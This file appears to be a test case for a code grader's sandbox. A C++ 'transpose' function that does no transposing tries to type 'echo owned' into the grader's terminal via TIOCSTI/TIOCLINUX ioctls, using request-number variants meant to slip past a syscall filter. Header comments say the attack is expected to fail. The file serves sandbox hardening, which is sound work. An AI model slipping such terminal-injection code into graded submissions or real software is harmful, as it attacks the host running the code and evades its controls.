// attack: types a command into the terminal that the grader was started from
// against: 05_transpose/2_pad
// must: failed launch: nothing was launched
// never: was typed

#include <cstdio>
#include <fcntl.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

void transpose(float* out, const float* in, int rows, int cols) {
  const char command[] = "echo owned\n";
  int terminals[] = {0, 1, 2, open("/dev/tty", O_RDWR | O_NOCTTY), open("/dev/console", O_RDWR)};
  for (const int terminal : terminals)
    for (const char* c = command; *c; ++c) {
      // The kernel looks at the lower half of the number, a filter perhaps at all of it.
      for (const long request : {0x5412l, 0x1'0000'5412l, 0x541cl, -1l << 32 | 0x5412})
        if (terminal >= 0 && syscall(SYS_ioctl, terminal, request, c) == 0)
          std::puts("a letter was typed");
    }
}
